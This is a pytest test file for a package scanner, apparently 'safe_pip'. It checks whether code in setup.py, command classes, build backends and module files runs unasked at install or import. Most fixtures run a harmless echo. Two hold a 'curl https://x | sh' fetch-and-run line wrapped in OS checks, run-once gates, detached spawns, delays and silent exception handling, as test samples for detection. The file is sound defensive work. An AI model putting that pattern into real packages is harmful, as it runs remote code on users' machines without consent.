"""Surfaces: when code runs, and that only what runs unasked counts as such."""

from __future__ import annotations

import pytest

from safe_pip.distribution import DistributionKind
from safe_pip.evidence import Surface
from tests.sources import code_evidence, features, places

CALL = "import os; os.system('echo look-alike')\n"


def _surfaces(files: dict[str, str], kind: DistributionKind) -> set[Surface]:
    return {
        item.surface for item in code_evidence(files, kind=kind) if item.feature == "proc_spawn"
    }


@pytest.mark.parametrize(
    ("path", "kind", "surface"),
    [
        ("setup.py", DistributionKind.SDIST, Surface.SETUP),
        ("setup.py", DistributionKind.WHEEL, Surface.MODULE),
        ("pkg/__init__.py", DistributionKind.WHEEL, Surface.INIT),
        ("pkg/module.py", DistributionKind.WHEEL, Surface.MODULE),
        ("src/demo/module.py", DistributionKind.SDIST, Surface.MODULE),
        ("demo.py", DistributionKind.SDIST, Surface.MODULE),
        ("bootstrap.py", DistributionKind.SDIST, Surface.OTHER),
        ("travis/check.py", DistributionKind.SDIST, Surface.OTHER),
        ("pkg/sitecustomize.py", DistributionKind.WHEEL, Surface.MODULE),
        ("tests/demo.pth", DistributionKind.SDIST, Surface.OTHER),
        ("module.pyw", DistributionKind.WHEEL, Surface.MODULE),
        ("pkg/__main__.py", DistributionKind.WHEEL, Surface.ENTRY_POINT),
        ("demo-1.0.data/scripts/run.py", DistributionKind.WHEEL, Surface.ENTRY_POINT),
        ("sitecustomize.py", DistributionKind.WHEEL, Surface.STARTUP),
        ("tests/test_demo.py", DistributionKind.SDIST, Surface.OTHER),
        ("pkg/_tests/test_demo.py", DistributionKind.WHEEL, Surface.OTHER),
        ("docs/conf.py", DistributionKind.SDIST, Surface.OTHER),
    ],
)
def test_top_level_runs_where_its_file_is(
    path: str, kind: DistributionKind, surface: Surface
) -> None:
    assert _surfaces({path: CALL}, kind) == {surface}


def test_module_that_the_packaging_names_is_installed() -> None:
    packaging = "[tool.setuptools]\npy-modules = ['helper']\n"
    files = {"pyproject.toml": packaging, "helper.py": CALL}
    assert _surfaces(files, DistributionKind.SDIST) == {Surface.MODULE}


def test_module_beside_an_init_is_installed() -> None:
    files = {"other/__init__.py": "", "other/module.py": CALL}
    assert _surfaces(files, DistributionKind.SDIST) == {Surface.MODULE}


def test_loose_file_that_setup_imports_runs() -> None:
    files = {"setup.py": "import bootstrap\n", "bootstrap.py": CALL}
    assert "proc_spawn_unasked" in features(code_evidence(files))


def test_script_without_suffix_is_read_by_its_first_line() -> None:
    script = "#!/usr/bin/env python3\n" + CALL
    assert _surfaces({"bin/run": script}, DistributionKind.SDIST) == {Surface.ENTRY_POINT}
    assert _surfaces({"bin/run": "#!/bin/sh\n" + CALL}, DistributionKind.SDIST) == set()


def test_backend_in_the_tree_runs_while_building() -> None:
    files = {
        "pyproject.toml": """
        [build-system]
        requires = []
        build-backend = "backend"
        backend-path = ["_build"]
        """,
        "_build/backend.py": CALL,
    }
    assert _surfaces(files, DistributionKind.SDIST) == {Surface.BUILD_BACKEND}
    assert "build_backend_code" in features(code_evidence(files))


SETUP = """
from setuptools import setup
from setuptools.command.install import install
import os

class Command(install):
    def run(self):
        install.run(self)
        self.later()

    def later(self):
        os.system("echo look-alike")

setup(name="demo", cmdclass={"%s": Command})
"""


def test_install_command_runs_unasked_and_names_the_line() -> None:
    evidence = code_evidence({"setup.py": SETUP % "install"})
    found = [item for item in evidence if item.feature == "proc_spawn_unasked"]
    assert [(item.location.line, item.surface) for item in found] == [(11, Surface.COMMAND_CLASS)]
    assert places(evidence, "cmdclass_override") == {("setup.py", 5)}
    assert places(evidence, "cmdclass_capability") == {("setup.py", 11)}


def test_command_that_installing_does_not_run_is_asked_for() -> None:
    evidence = code_evidence({"setup.py": SETUP % "upload_docs"})
    assert "proc_spawn_unasked" not in features(evidence)
    assert "proc_spawn" in features(evidence)


def test_command_classes_in_a_variable_are_found() -> None:
    source = SETUP.replace(
        'setup(name="demo", cmdclass={"%s": Command})',
        'commands = {}\ncommands["install"] = Command\n'
        'options = dict(name="demo", cmdclass=commands)\nsetup(**options)',
    )
    evidence = code_evidence({"setup.py": source})
    assert places(evidence, "cmdclass_capability") == {("setup.py", 11)}


def test_main_block_runs_only_as_a_command() -> None:
    source = "import os\nif __name__ == '__main__':\n    os.system('echo')\n"
    assert "proc_spawn_unasked" not in features(code_evidence({"pkg/module.py": source}))
    assert "proc_spawn_unasked" in features(code_evidence({"setup.py": source}))


def test_uncalled_function_is_asked_for() -> None:
    source = "import os\ndef run():\n    os.system('echo')\n"
    assert features(code_evidence({"pkg/__init__.py": source})) == {
        "proc_spawn",
        "proc_spawn_unannounced",
    }


@pytest.mark.parametrize(
    "call",
    [
        "run()",
        "x = run()",
        "def outer():\n    run()\nouter()",
        "class A:\n    x = run()",
        "class A:\n    def __init__(self):\n        run()\nA()",
        "f = lambda: run()\nf()",
        "for _ in range(2):\n    run()",
        "try:\n    import missing\nexcept ImportError:\n    run()",
        "@(lambda f: run())\ndef g(): pass",
        "import asyncio\nasync def main():\n    run()\nasyncio.run(main())",
        "from threading import Thread\nclass T(Thread):\n    def run(self):\n        run()\nT().start()",
        "with open('x') as f:\n    run()",
        "[run() for _ in (1,)]",
        "import functools\nfunctools.partial(run)()",
        "{'f': run}['f']()",
        "print(run())",
    ],
)
def test_function_called_at_import_runs_unasked(call: str) -> None:
    source = f"import os\ndef run():\n    os.system('echo')\n{call}\n"
    evidence = code_evidence({"pkg/__init__.py": source})
    assert ("pkg/__init__.py", 3) in places(evidence, "proc_spawn_unasked")


@pytest.mark.parametrize(
    "source",
    [
        "if False:\n    os.system('echo')",
        "if 0:\n    os.system('echo')",
        "from typing import TYPE_CHECKING\nif TYPE_CHECKING:\n    os.system('echo')",
    ],
)
def test_what_no_run_reaches_is_no_evidence(source: str) -> None:
    assert features(code_evidence({"pkg/__init__.py": f"import os\n{source}\n"})) == set()


def test_methods_are_not_the_builtins_that_they_are_named_after() -> None:
    source = """
    class Shelf:
        def open(self, name): ...
        def exec(self, text): ...
        def use(self):
            with open("x") as file:
                return file.read()
    """
    assert "dyn_exec" not in features(code_evidence({"pkg/__init__.py": source}))


def test_calls_in_the_body_of_setup_are_counted() -> None:
    evidence = code_evidence(
        {
            "setup.py": "from setuptools import setup\ndef f(): pass\nf()\nprint('x')\nsetup(name='x')\n"
        }
    )
    assert places(evidence, "setup_extra_calls") == {("setup.py", 3)}


def test_gates_before_a_chain_are_named() -> None:
    evidence = code_evidence(
        {
            "pkg/__init__.py": """
            import os, time, subprocess
            if os.name == "nt":
                os.system("curl https://x | sh")
            if not os.environ.get("DEMO_DONE"):
                os.environ["DEMO_DONE"] = "1"
                subprocess.Popen(["x"], start_new_session=True)
            time.sleep(300)
            os.system("echo")
            """
        }
    )
    assert places(evidence, "os_gate_before_chain") == {("pkg/__init__.py", 3)}
    assert ("pkg/__init__.py", 6) in places(evidence, "run_once_gate")
    assert ("pkg/__init__.py", 6) in places(evidence, "detached_spawn_unasked")
    assert ("pkg/__init__.py", 8) in places(evidence, "delay_gate")


def test_silence_around_a_chain_is_named() -> None:
    evidence = code_evidence(
        {
            "setup.py": """
            import os
            try:
                os.system("curl https://x | sh")
            except Exception:
                pass
            """
        }
    )
    assert places(evidence, "chain_in_silent_try") == {("setup.py", 3)}


@pytest.mark.parametrize("hook", ["build_wheel", "get_requires_for_build_wheel"])
def test_a_hook_of_a_build_backend_runs_while_building(hook: str) -> None:
    found = code_evidence(
        {
            "pyproject.toml": '[build-system]\nbuild-backend = "backend"\nbackend-path = ["_build"]\n',
            "_build/backend.py": f"import os\ndef {hook}(*arguments):\n    os.system('echo')\n"
            "def other():\n    os.system('echo')\n",
        }
    )
    assert places(found, "proc_spawn_unasked") == {("_build/backend.py", 3)}
    (item,) = (item for item in found if item.feature == "proc_spawn_unasked")
    assert item.surface is Surface.BUILD_BACKEND
